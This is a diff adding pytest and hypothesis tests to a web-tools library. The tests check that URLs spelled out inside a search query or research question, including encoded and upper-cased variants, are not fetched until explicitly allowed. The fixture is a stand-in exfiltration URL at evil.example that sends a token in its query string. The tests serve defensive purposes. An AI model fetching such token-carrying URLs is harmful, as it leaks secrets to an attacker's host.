@@ -11,7 +11,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from runtimes import BOTH, either
-from wires import Wire, web_of
+from wires import PROVIDERS, Wire, web_of
 
 from webtools import InputError, Session, WebTools, WebToolsError
 from webtools.choices import FetchGate
@@ -384,6 +384,61 @@ def test_an_address_that_was_built_from_a_query_is_not_opened(
         with pytest.raises(InputError):
             either(is_async, each, "fetch", result.url)
     assert all(url.startswith("https://context7.com/api/") for url in wire.urls)
+
+
+SPELLED = f"https://www.evil.example/load?d={TOKEN}"
+
+
+@st.composite
+def spelled(draw: st.DrawFn) -> str:
+    """A query that has `SPELLED` in it, in one of its spellings."""
+    text = draw(st.sampled_from([SPELLED, SPELLED[8:], SPELLED[12:], f"{SPELLED}&utm_source=x#y"]))
+    if draw(st.booleans()):
+        text = text.upper()
+    for place in sorted(draw(st.sets(st.integers(4, len(text) - 1), max_size=4)), reverse=True):
+        if text[place].isalpha():
+            text = f"{text[:place]}%{ord(text[place]):02x}{text[place + 1 :]}"
+    return f"{draw(st.sampled_from(['', 'Open ', '(', 'q=']))}{text}{draw(st.sampled_from(' ).'))}"
+
+
+@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
+@given(query=spelled())
+def test_a_result_that_a_query_spells_does_not_open(
+    wire: Wire, monkeypatch: pytest.MonkeyPatch, query: str
+) -> None:
+    wire.found = [SEEN, SPELLED]
+    with web_of(wire, monkeypatch).session(fetch="seen") as session:
+        assert SPELLED in [each.url for each in session.search(query, provider="exa").results]
+        assert session.has_seen(SEEN)
+        assert not session.has_seen(SPELLED)
+        session.allow(SPELLED)
+        session.search(query, provider="exa")
+        assert session.has_seen(SPELLED)
+
+
+@BOTH
+@pytest.mark.parametrize("mode", ["seen", "strict"])
+def test_research_does_not_read_a_result_that_its_question_spells(
+    wire: Wire, monkeypatch: pytest.MonkeyPatch, mode: FetchGate, is_async: bool
+) -> None:
+    wire.found = [SPELLED]
+    web = web_of(wire, monkeypatch, providers=PROVIDERS[:2])
+    question = f"How often does the ferry of {SPELLED} cross?"
+    session = web.session(fetch=mode)
+    envelope = either(is_async, session, "research", question, command="web-deep")
+    assert [each.url for each in envelope.results] == [SPELLED]
+    assert not session.has_seen(SPELLED)
+    assert any("was not read" in warning for warning in envelope.meta.warnings)
+    assert not [url for url in wire.urls if "evil" in url]
+    session.allow(question, origin="user")
+    either(is_async, session, "research", question, command="web-deep")
+    assert SPELLED in wire.urls
+
+
+def test_a_native_source_that_a_query_spells_does_not_open(session: Session) -> None:
+    source = {"url": SPELLED, "title": "Evil"}
+    session.record_native(vendor="openai", queries=[f"open {SPELLED}"], sources=[source])
+    assert not session.has_seen(SPELLED)
 
 
 @BOTH
